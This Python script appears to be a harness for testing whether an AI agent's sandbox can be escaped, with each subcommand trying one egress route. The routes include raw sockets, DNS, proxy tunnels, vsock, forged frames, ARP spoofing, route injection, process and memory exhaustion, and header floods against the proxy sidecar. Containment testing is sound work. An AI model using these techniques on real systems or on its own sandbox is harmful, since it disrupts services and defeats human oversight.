"""Try one way out: `attack WAY ARGUMENT...`. Whether it worked is for the receiver to say, never for this program."""

import contextlib
import fcntl
import importlib
import os
import resource
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

SECONDS = 3
MPTCP, UDPLITE, FAST_OPEN = 262, 136, 0x20000000
SIOCADDRT = 0x890B
PIPELOCK = ("pipelock", 8888)
API = "api.anthropic.com"


def _address(host: str, port: int) -> tuple[socket.AddressFamily, tuple[object, ...]]:
    """Take an address; a link-local one is meant on the interface that is not the loopback."""
    if ":" not in host:
        return socket.AF_INET, (host, port)
    scopes = [index for index, name in socket.if_nameindex() if name != "lo"]
    return socket.AF_INET6, (host, port, 0, scopes[0] if host.startswith(("fe80", "ff02")) else 0)


def _socket(family: int, kind: int, protocol: int = 0) -> socket.socket:
    sock = socket.socket(family, kind, protocol)
    sock.settimeout(SECONDS)
    return sock


def _talk(sock: socket.socket, text: str) -> None:
    """Say something and show what comes back until the end."""
    sock.sendall(text.encode("latin-1"))
    while data := sock.recv(65536):
        print(data.decode("latin-1"))


def tcp(host: str, port: str, token: str, how: str = "") -> None:
    """Connect, plainly, with Fast Open or with Multipath TCP, and say the token."""
    family, address = _address(host, int(port))
    with _socket(family, socket.SOCK_STREAM, MPTCP if how == "mptcp" else 0) as sock:
        if how == "fast-open":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", SECONDS, 0))
            sock.setblocking(True)
            sock.sendto(token.encode(), FAST_OPEN, address)
        else:
            sock.connect(address)
        _talk(sock, token)


def udp(host: str, port: str, token: str, how: str = "") -> None:
    """Send a datagram, also to everybody."""
    family, address = _address(host, int(port))
    with _socket(family, socket.SOCK_DGRAM, UDPLITE if how == "lite" else 0) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(token.encode(), address)


def ping(host: str, token: str, how: str = "") -> None:
    """Send an echo request, by the ping socket that needs no privilege, or by a raw one."""
    family, address = _address(host, 0)
    echo, protocol = (128, socket.IPPROTO_ICMPV6) if ":" in host else (8, socket.IPPROTO_ICMP)
    packet = struct.pack("!BBHHH", echo, 0, 0, 1, 1) + token.encode()
    packet = packet[:2] + _checksum(packet) + packet[4:]
    with _socket(family, socket.SOCK_RAW if how == "raw" else socket.SOCK_DGRAM, protocol) as sock:
        sock.sendto(packet, address)


def _checksum(data: bytes) -> bytes:
    words = struct.unpack(f"!{len(data + b'0') // 2}H", data + b"\0" * (len(data) % 2))
    total = sum(words)
    return struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF)


def dns(server: str, name: str, how: str = "udp") -> None:
    """Ask a name server."""
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    query = b"\1\2\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
    with _socket(socket.AF_INET, socket.SOCK_DGRAM if how == "udp" else socket.SOCK_STREAM) as sock:
        sock.connect((server, 53))
        sock.sendall(query if how == "udp" else len(query).to_bytes(2, "big") + query)
        print(sock.recv(512))


def resolve(name: str) -> None:
    """Ask the system."""
    print(socket.getaddrinfo(name, 443))


def connect(target: str, text: str, host: str = "", proxy: str = "pipelock") -> None:
    r"""Ask a proxy for a tunnel, and say the text in it, `\r\n` and the like being escapes."""
    with socket.create_connection((proxy, 8888), SECONDS) as sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n".encode("latin-1"))
        answer = sock.recv(65536)
        print(answer)
        if b" 200 " in answer:
            _talk(sock, text.encode().decode("unicode_escape"))


def say(text: str) -> None:
    r"""Send the sidecar these very bytes, `\r\n` and the like being escapes."""
    with socket.create_connection(PIPELOCK, SECONDS) as sock:
        _talk(sock, text.encode().decode("unicode_escape"))


@contextlib.contextmanager
def _within(host: str, name: str | None) -> Iterator[ssl.SSLSocket]:
    """Ask for a tunnel to a host, and begin TLS in it for a name, or for none."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(PIPELOCK, SECONDS) as sock:
        sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        print(sock.recv(65536))
        with context.wrap_socket(sock, server_hostname=name) as tls:
            yield tls


def tls(text: str, name: str = API, host: str = API) -> None:
    r"""Say the text, `\r\n` and the like being escapes, in a tunnel to a host, by TLS for a name; "" is none."""
    with _within(host, name or None) as sock:
        _talk(sock, text.encode().decode("unicode_escape"))


def ask(line: str, headers: str = "", body: str = "", host: str = API) -> None:
    r"""Ask a host by HTTPS; in the headers `\r\n` and the like are escapes, in line and body nothing is."""
    lines = [f"{line} HTTP/1.1", f"Host: {host}", *([headers.encode().decode("unicode_escape")] if headers else [])]
    lines += [f"Content-Length: {len(body.encode())}"] if body else []
    lines += [] if "connection:" in headers.lower() else ["Connection: close"]
    with _within(host, host) as sock:
        _talk(sock, "\r\n".join((*lines, "", body)))


def body(text: str, token: str, path: str = "/v1/messages") -> None:
    """Ask the API for a message, or at another path, with this body."""
    ask(f"POST {path}?{token}", "Content-Type: application/json", text)


def abstract(name: str, token: str) -> None:
    """Speak to an abstract Unix socket, which belongs to a network namespace."""
    with _socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect(f"\0{name}")
        _talk(sock, token)


def stay(token: str) -> None:
    """Stay for a while under the token's name, to be looked at from outside."""
    Path("/proc/self/comm").write_text(token)
    time.sleep(10)


def vsock(token: str, how: str = "") -> None:
    """Listen for the hypervisor and stay: no packet is sent."""
    make = importlib.import_module("uring").make if how == "uring" else socket.socket
    with make(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
        sock.listen()
        stay(token)


def frame(way: str, token: str, *arguments: str) -> None:
    """Send a frame of one's own making: to everybody, as a false ARP answer, or by another host's hardware address."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        name = next(name for _, name in socket.if_nameindex() if name != "lo")
        sock.bind((name, 0))
        mine = sock.getsockname()[4]
        for one in FRAMES[way](mine, token.encode(), *arguments):
            sock.send(one)


def _to_all(mine: bytes, token: bytes) -> Iterator[bytes]:
    yield b"\xff" * 6 + mine + b"\x88\xb5" + token.ljust(46, b"\0")


def _false_arp(mine: bytes, token: bytes, claimed: str) -> Iterator[bytes]:
    """Say that the claimed address is here, the token behind the answer."""
    address = socket.inet_aton(claimed)
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    yield b"\xff" * 6 + mine + b"\x08\x06" + head + mine + address + b"\xff" * 6 + address + token


def _through(mine: bytes, token: bytes, router: str, target: str) -> Iterator[bytes]:
    """Hand an IP packet for elsewhere to a neighbour, as if that were a router."""
    with contextlib.suppress(OSError):
        socket.create_connection((router, 8888), 1).close()  # so that its hardware address is known
    rows = [line.split() for line in Path("/proc/net/arp").read_text().splitlines()]
    hardware = bytes.fromhex(next(row[3] for row in rows if row[0] == router).replace(":", ""))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((router, 8888))
        source = socket.inet_aton(sock.getsockname()[0])
    datagram = struct.pack("!HHHH", 40000, 9000, 8 + len(token), 0) + token
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0) + source + socket.inet_aton(target)
    yield hardware + mine + b"\x08\x00" + head[:10] + _checksum(head) + head[12:] + datagram


FRAMES: dict[str, Callable[..., Iterator[bytes]]] = {"to-all": _to_all, "false-arp": _false_arp, "through": _through}


def route(target: str, gateway: str) -> None:
    """Add a route: to one address, or by default ("0.0.0.0")."""

    def inet(address: str) -> bytes:
        return struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(address))

    single = target != "0.0.0.0"
    entry = b"\0" * 8 + inet(target) + inet(gateway) + inet("255.255.255.255" if single else "0.0.0.0")
    entry += struct.pack("=H", 7 if single else 3)  # RTF_UP, RTF_GATEWAY, RTF_HOST
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, SIOCADDRT, entry.ljust(120, b"\0"))


def beat() -> str:
    """Do a little of everything that somebody else could have used up; return what failed, if anything."""
    try:
        subprocess.run(("true",), check=True, timeout=10)
        with contextlib.ExitStack() as files:
            for _ in range(50):
                files.enter_context(Path("/etc/hostname").open())
        Path("/dev/shm/beat").write_bytes(b"\0" * (1 << 20))
    except (OSError, subprocess.SubprocessError, RuntimeError) as error:
        return f"failed: {error}"
    return "well"


def beats() -> None:
    """Beat for ever, a line each time."""
    while True:
        print(beat(), flush=True)
        time.sleep(0.2)


def exhaust(what: str, token: str) -> None:
    """Use something up, hold it for a moment, beat once, and let go; bounded in number and time."""
    Path("/proc/self/oom_score_adj").write_text("1000")  # this is what is to die, not claude beside it
    EXHAUSTIONS[what](token)
    time.sleep(2)
    print(token, beat(), flush=True)
    Path(f"/dev/shm/{token}").unlink(missing_ok=True)


def _processes(_: str) -> None:
    with contextlib.suppress(OSError):
        for _n in range(600):
            if not os.fork():
                time.sleep(10)  # the first is still there when the last one is made
                os._exit(0)


def _memory(token: str) -> None:
    """Take 1200 MB in six processes, and all of /dev/shm."""
    for _n in range(6):
        if not os.fork():
            held = bytearray(200 << 20)
            held[::4096] = b"x" * len(held[::4096])
            time.sleep(2)
            os._exit(0)
    with contextlib.suppress(OSError), Path(f"/dev/shm/{token}").open("wb") as file:
        for _n in range(128):
            file.write(b"\0" * (1 << 20))


def _files(_: str) -> None:
    limit = min(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 20_000)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    with contextlib.suppress(OSError):
        while True:
            os.open("/dev/null", os.O_RDONLY)


def _requests(_: str) -> None:
    """Begin requests with large bodies, as many as 200 files can be, and hold each."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (200, 200))
    begun = f"POST /v1/messages HTTP/1.1\r\nHost: {API}\r\nContent-Length: {30 << 20}\r\n\r\n".encode()
    with contextlib.suppress(OSError):
        while True:
            tunnel = _within(API, API)
            HELD.append(tunnel)
            tunnel.__enter__().sendall(begun + b" " * (1 << 18))


HELD: list[object] = []
EXHAUSTIONS: dict[str, Callable[[str], None]] = {
    "processes": _processes, "memory": _memory, "files": _files, "requests": _requests,
}  # fmt: skip


def flood(count: str) -> None:
    """Open connections to the sidecar and leave each with half a request and 900 KB of headers."""
    held = []
    head = b"GET http://api.anthropic.com/ HTTP/1.1\r\n" + b"X: " + b"x" * 900_000
    with contextlib.suppress(OSError):
        for _ in range(int(count)):
            sock = socket.create_connection(PIPELOCK, 1)
            held.append(sock)
            sock.sendall(head)
    for sock in held:
        sock.close()


def relay(port: str, token: str) -> None:
    """Speak for the relay of a port: have the other end open a connection, and say the token on it."""
    frames = (struct.pack(">BIH", 2, 1, 0), struct.pack(">BIH", 3, 1, len(token)), token.encode())
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            words = (process / "cmdline").read_bytes().split(b"\0")
            if words[-2:] == [port.encode(), b""] and b"main(int(sys.argv[1]))" in words[-3]:
                (process / "fd" / "1").write_bytes(b"".join(frames))


def main() -> None:
    """Call the way that is named."""
    ways: tuple[Callable[..., None], ...] = (
        tcp, udp, ping, dns, resolve, connect, say, tls, ask, body, abstract, stay, vsock, frame, route, beats, exhaust,
        flood, relay,
    )  # fmt: skip
    {way.__name__: way for way in ways}[sys.argv[1]](*sys.argv[2:])


if __name__ == "__main__":
    main()
